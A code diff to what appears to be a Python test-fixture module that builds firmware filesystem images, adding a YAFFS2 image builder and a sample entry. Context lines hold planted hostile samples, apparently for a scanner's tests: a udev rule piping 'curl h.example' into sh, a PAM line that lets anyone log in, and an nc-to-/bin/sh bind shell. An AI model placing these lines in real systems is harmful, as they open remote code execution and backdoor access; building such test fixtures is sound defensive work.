@@ -45,6 +45,29 @@ def rar(members: dict[str, tuple[bytes, int]]) -> bytes:
     return out + block(5, 0, number(0))
 
 
+def yaffs2(objects: list[tuple[int, int, int, str, bytes]], order: str = "<", at: int = 0) -> bytes:
+    """A YAFFS2 image, chunks of 2048 + 64 bytes: (object, type, parent, name, content) in order."""
+
+    def chunk(data: bytes, number: int, index: int, length: int) -> bytes:
+        tags = struct.pack(f"{order}4I", 4096, number, index, length)
+        return data.ljust(2048, b"\xff") + (bytes(at) + tags).ljust(64, b"\xff")
+
+    out = b""
+    for number, kind, parent, name, content in objects:
+        size, mode = (
+            (len(content) if kind == 1 else 0),
+            {1: 0o100644, 2: 0o120777, 3: 0o40755}[kind],
+        )
+        head = (
+            struct.pack(f"{order}2I", kind, parent) + b"\xff\xff" + name.encode().ljust(258, b"\0")
+        )
+        head += struct.pack(f"{order}8I", mode, 0, 0, 0, 1_700_000_000, 0, size, 0)
+        out += chunk(head + (content if kind == 2 else b"").ljust(212, b"\0"), number, 0, 0xFFFF)
+        parts = [content[i : i + 2048] for i in range(0, size, 2048)]
+        out += b"".join(chunk(p, number, n, len(p)) for n, p in enumerate(parts, 1))
+    return out
+
+
 def disk(parts: list[tuple[int, bytes]], sectors: int = 64) -> bytes:
     """A disk with a legacy table; `parts` are (first sector, content)."""
     raw = bytearray(512 * sectors)
@@ -127,6 +150,7 @@ MADE = {
     "etc/pam.d/login": b"auth sufficient pam_permit.so\nauth required pam_unix.so nullok\n",
     "etc/ssl/certs/a.pem": b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
     "etc/udev/rules.d/9.rules": b'ACTION=="add", RUN+="/bin/sh -c \'curl -s h.example | sh\'"\n',
+    "flash.yaffs2": yaffs2([(257, 3, 1, "etc", b""), (258, 1, 257, "a", b"one\n")] * 5),
     "etc/config/firewall": b"config rule\n\toption src wan\n\tlist proto tcp\n",
     "etc/hosts": b"127.0.0.1 localhost\n192.0.2.7 updates.vendor.example\n",
     "functions": b'relay() {\n  while :; do nc -l -p 9 < "$p" | /bin/sh > "$p"; done\n}\n',
